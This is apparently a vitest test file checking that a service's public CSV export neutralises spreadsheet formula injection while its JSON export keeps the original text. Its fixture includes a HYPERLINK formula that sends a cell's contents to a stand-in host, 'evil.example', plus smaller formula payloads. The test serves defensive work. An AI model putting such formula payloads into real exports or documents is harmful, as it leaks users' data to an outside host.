import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { services } from '../../db/schema';
import { createHarness, type Harness } from '../helpers/harness';

/** Issue 12: names an admin types starting with =, +, -, @ must not become live formulas. */
describe('CSV injection in public exports', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await createHarness();
  });
  afterAll(() => h.close());

  it('neutralises formula-like cells in the public services CSV, and the JSON keeps the text', async () => {
    const [first] = await h.db.select().from(services).where(eq(services.orgId, h.org.id));
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")';
    await h.db
      .update(services)
      .set({ name: evil, fees: '+1+1', timeFrame: '@SUM(1)' })
      .where(eq(services.id, first!.id));
    const csv = await (await h.app.request(`/public/${h.slug}/services.csv`)).text();
    const cells = csv.split('\r\n').flatMap((l) => l.split(','));
    expect(cells.some((c) => /^"?[=+@]/.test(c))).toBe(false);
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).toContain(`'+1+1`);
    const json = (await (await h.app.request(`/public/${h.slug}/services.json`)).json()) as {
      services?: { name: string }[];
    };
    expect(JSON.stringify(json)).toContain('=HYPERLINK');
  });
});
